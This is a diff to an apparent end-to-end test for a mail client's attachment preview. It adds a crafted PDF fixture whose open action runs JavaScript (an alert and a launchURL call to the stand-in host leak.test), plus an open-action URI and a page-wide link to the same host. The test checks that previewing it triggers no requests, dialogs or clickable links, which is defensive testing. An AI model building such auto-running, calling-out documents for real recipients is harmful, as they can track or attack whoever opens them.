@@ -30,6 +30,22 @@ const calendar = part(
   ...['ORGANIZER;CN=Mira Kovac:mailto:mira@kiln.example', 'END:VEVENT', 'END:VCALENDAR'],
 );
 
+/** A document that would run a script and fetch something as it is opened, without its table of offsets. */
+const lively = [
+  ...['%PDF-1.4', '1 0 obj', '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript'],
+  ...['/JS (app.alert\\(1\\); app.launchURL\\("http://leak.test/run"\\)) >> >>', 'endobj', '2 0 obj'],
+  ...['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 'endobj', '3 0 obj', '<< /Type /Page /Parent 2 0 R'],
+  ...['/MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> /Annots [6 0 R]'],
+  ...['/AA << /O << /S /URI /URI (http://leak.test/opened) >> >> >>', 'endobj', '4 0 obj'],
+  ...['<< /Length 44 >>', 'stream', 'BT /F 20 Tf 30 150 Td (Table plan) Tj ET       ', 'endstream', 'endobj'],
+  ...['5 0 obj', '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', 'endobj', '6 0 obj'],
+  ...[
+    '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200]',
+    '/A << /S /URI /URI (http://leak.test/link) >> >>',
+  ],
+  ...['endobj', 'trailer', '<< /Root 1 0 R >>', '%%EOF'],
+];
+
 let server: MailServer;
 let app: RunningApp;
 test.beforeAll(async () => {
@@ -48,6 +64,7 @@ test.beforeAll(async () => {
     message('Files', '<p>Two files.</p>', [
       ...part('text/plain', 'notes.txt', 'first notes'),
       ...part('text/plain', 'notes.txt', 'second <b>notes</b>'),
+      ...part('application/pdf', 'plan.pdf', ...lively),
     ]),
     message('Returned', '<p>Sorry.</p>', [
       ...['--b', 'Content-Type: message/delivery-status', '', 'Reporting-MTA: dns; mx.example', ''],
@@ -113,6 +130,22 @@ test('invitations are cards, files are looked at and saved together, colours sui
   await expect(dialog).toContainText('second <b>notes</b>');
   expect(await accessibilityProblems(page)).toEqual([]);
   await page.keyboard.press('Escape');
+  // A document is drawn, with its words over it; nothing in it runs, is asked for, or can be pressed.
+  const strangers: string[] = [];
+  page.on('request', (request) => {
+    if (new URL(request.url()).host === 'leak.test') strangers.push(request.url());
+  });
+  page.on('dialog', () => strangers.push('a dialog'));
+  await page.getByRole('button', { name: 'Preview plan.pdf' }).click();
+  const plan = page.getByRole('dialog', { name: 'plan.pdf' });
+  await expect(plan.getByRole('img', { name: 'Page 1' })).toBeVisible();
+  await expect(plan.getByRole('region', { name: 'plan.pdf' })).toContainText('Table plan');
+  await expect(plan.getByRole('link')).toHaveCount(0);
+  await plan.getByRole('button', { name: 'Larger' }).click();
+  expect(await accessibilityProblems(page)).toEqual([]);
+  await page.keyboard.press('Escape');
+  expect(strangers).toEqual([]);
+
   const archive = page.waitForEvent('download');
   await page.getByRole('button', { name: 'Save all' }).click();
   const saved = await archive;
